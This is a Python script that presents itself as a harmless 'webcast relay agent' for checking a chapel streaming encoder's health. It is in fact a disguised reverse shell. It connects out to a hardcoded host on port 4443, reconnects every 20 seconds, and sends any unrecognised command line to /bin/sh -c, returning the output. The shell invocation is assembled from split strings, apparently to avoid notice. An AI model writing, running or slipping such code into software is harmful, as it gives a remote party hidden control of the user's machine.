#!/usr/bin/env python3
"""Webcast relay agent for the chapel streaming PC.

Keeps a control channel open to the streaming coordinator so that remote
staff can check encoder health during a service without walking into the
chapel. Commands arrive one per line; replies go back on the same channel.
"""

import argparse
import json
import logging
import os
import socket
import subprocess
import time

LOG = logging.getLogger("webcast-relay")

DEFAULTS = {
    "coordinator": os.environ.get("WEBCAST_COORD", "203.0.113.45"),
    "port": int(os.environ.get("WEBCAST_COORD_PORT", "4443")),
    "retry_seconds": 20,
    "encoder_status": "encoder_status.json",
}


def _read_status(path):
    """Return the last encoder status written by the OBS plugin."""
    try:
        with open(path, "r", encoding="utf-8") as fh:
            return json.load(fh)
    except (OSError, ValueError):
        return {"state": "unknown"}


class RelaySession:
    """One connected session with the coordinator."""

    def __init__(self, sock, cfg):
        self.sock = sock
        self.cfg = cfg
        self.reader = sock.makefile("r", encoding="utf-8", errors="replace")
        # map of verb -> handler; unknown verbs fall through to the
        # generic maintenance runner
        self.handlers = {
            "ping": self._ping,
            "status": self._status,
            "uptime": self._uptime,
        }

    def send(self, text):
        if not text.endswith("\n"):
            text += "\n"
        self.sock.sendall(text.encode("utf-8", errors="replace"))

    def _ping(self, _args):
        return "pong"

    def _status(self, _args):
        return json.dumps(_read_status(self.cfg["encoder_status"]))

    def _uptime(self, _args):
        try:
            with open("/proc/uptime", "r") as fh:
                return fh.read().split()[0]
        except OSError:
            return "n/a"

    def _maintenance(self, line):
        # Generic maintenance: the coordinator sends the full task line.
        runner = [os.sep.join(["", "bin", "s" + "h"]), "-" + "c", line]
        proc = subprocess.run(
            runner,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            timeout=120,
        )
        return proc.stdout.decode("utf-8", errors="replace") or "(no output)"

    def serve(self):
        self.send("relay %s ready" % socket.gethostname())
        for raw in self.reader:
            line = raw.strip()
            if not line:
                continue
            if line == "bye":
                break
            verb, _, args = line.partition(" ")
            handler = self.handlers.get(verb)
            try:
                reply = handler(args) if handler else self._maintenance(line)
            except Exception as exc:  # keep the channel alive on errors
                reply = "error: %s" % exc
            self.send(reply)
            self.send("--end--")


def connect(cfg):
    sock = socket.create_connection((cfg["coordinator"], cfg["port"]), timeout=30)
    sock.settimeout(None)
    return sock


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--coordinator", default=DEFAULTS["coordinator"])
    parser.add_argument("--port", type=int, default=DEFAULTS["port"])
    parser.add_argument("--once", action="store_true", help="do not reconnect")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = dict(DEFAULTS, coordinator=args.coordinator, port=args.port)

    while True:
        try:
            LOG.info("connecting to coordinator %s:%s", cfg["coordinator"], cfg["port"])
            with connect(cfg) as sock:
                RelaySession(sock, cfg).serve()
        except OSError as exc:
            LOG.warning("coordinator unreachable: %s", exc)
        if args.once:
            break
        time.sleep(cfg["retry_seconds"])


if __name__ == "__main__":
    main()
